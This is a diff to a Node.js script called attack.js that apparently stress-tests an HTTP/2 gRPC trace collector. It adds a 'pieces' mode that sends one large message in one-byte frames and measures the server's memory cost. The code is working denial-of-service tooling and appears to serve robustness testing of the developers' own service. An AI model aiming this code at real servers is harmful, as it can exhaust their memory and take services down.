@@ -4,6 +4,7 @@
 //   node attack.js idle ADDRESS COUNT SECONDS    connections that say nothing; "open N"
 //   node attack.js floods ADDRESS                HTTP/2 frames without end: {name: {closed,sent_kib,ms}}
 //   node attack.js names HTTP COUNT              as many names of every kind
+//   node attack.js pieces ADDRESS MIB PID        a message in frames of a byte: {closed,sent_kib,cost_kib}
 //   node attack.js overload HTTP SECONDS TIMES PID
 'use strict';
 
@@ -141,6 +142,68 @@ async function names(address, count) {
 const resident_kib = (pid) => Number(/VmRSS:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))[1]);
 
 // What is taken when senders wait as they are told, then |times| that.
+// One message of MIB in frames of a byte each, as fast as it may come; says how
+// much of it did, and KiB resident then.
+function pieces(address, mib, pid) {
+  const length = mib * 1024 * 1024;
+  const literal = (index, text) => Buffer.concat([index, Buffer.from([text.length]), Buffer.from(text)]);
+  const head = Buffer.concat([Buffer.from('8386', 'hex'),
+    literal(Buffer.from([4]), '/opentelemetry.proto.collector.trace.v1.TraceService/Export'), literal(Buffer.from([1]), 'h'),
+    literal(Buffer.from([0x0f, 0x10]), 'application/grpc'), literal(Buffer.from('00027465', 'hex'), 'trailers')]);
+  const prefix = Buffer.alloc(5);
+  prefix.writeUInt32BE(length, 1);
+  const window = { 0: 65535, 1: 65535 };
+  const piece = frame(0, 0, 1, Buffer.alloc(1));
+  const socket = net.connect(split(address));
+  const before = resident_kib(pid);
+  let sent = 0;
+  let initial = 65535;
+  let input = Buffer.alloc(0);
+  const end = (closed) => {
+    say({ closed, sent_kib: Math.round(sent / 1024), cost_kib: resident_kib(pid) - before });
+    process.exit(0);
+  };
+  const take = (type, flags, id, body) => {
+    if (type === 3) end(true);
+    if (type === 8) window[id] += body.readUInt32BE(0);
+    if (type === 6 && !(flags & 1)) socket.write(frame(6, 1, 0, body));
+    if (type !== 4 || flags & 1) return;
+    for (let at = 0; at < body.length; at += 6) {
+      if (body.readUInt16BE(at) !== 4) continue;
+      window[1] += body.readUInt32BE(at + 2) - initial;
+      initial = body.readUInt32BE(at + 2);
+    }
+    socket.write(frame(4, 1, 0, Buffer.alloc(0)));
+  };
+  const send = () => {
+    while (!socket.writableNeedDrain) {
+      const count = Math.min(window[0], window[1], 4096, length - 1 - sent);
+      if (count <= 0) break;
+      socket.write(Buffer.alloc(count * piece.length, piece));
+      window[0] -= count;
+      window[1] -= count;
+      sent += count;
+    }
+    if (sent === length - 1) setTimeout(() => end(false), 500);
+  };
+  socket.on('data', (bytes) => {
+    input = Buffer.concat([input, bytes]);
+    while (input.length >= 9 && input.length >= 9 + input.readUIntBE(0, 3)) {
+      const body = 9 + input.readUIntBE(0, 3);
+      take(input[3], input[4], input.readUInt32BE(5), input.subarray(9, body));
+      input = input.subarray(body);
+    }
+    send();
+  });
+  socket.on('drain', send);
+  socket.on('error', () => {});
+  socket.on('close', () => end(true));
+  socket.write(Buffer.concat([preface, settings, frame(1, 4, 1, head), frame(0, 0, 1, prefix)]));
+  window[0] -= prefix.length;
+  window[1] -= prefix.length;
+  setTimeout(() => end(false), 30000);
+}
+
 async function overload(address, seconds, times, pid) {
   const SPANS = 200;
   const agent = new http.Agent({ keepAlive: true, maxSockets: 256 });
@@ -187,6 +250,7 @@ const runs = {
   idle: () => idle(words[0], Number(words[1]), Number(words[2])),
   floods: () => run_floods(words[0]),
   names: () => names(words[0], Number(words[1])),
+  pieces: () => pieces(words[0], Number(words[1]), words[2]),
   overload: () => overload(words[0], Number(words[1]), Number(words[2]), words[3]),
 };
 runs[what]();
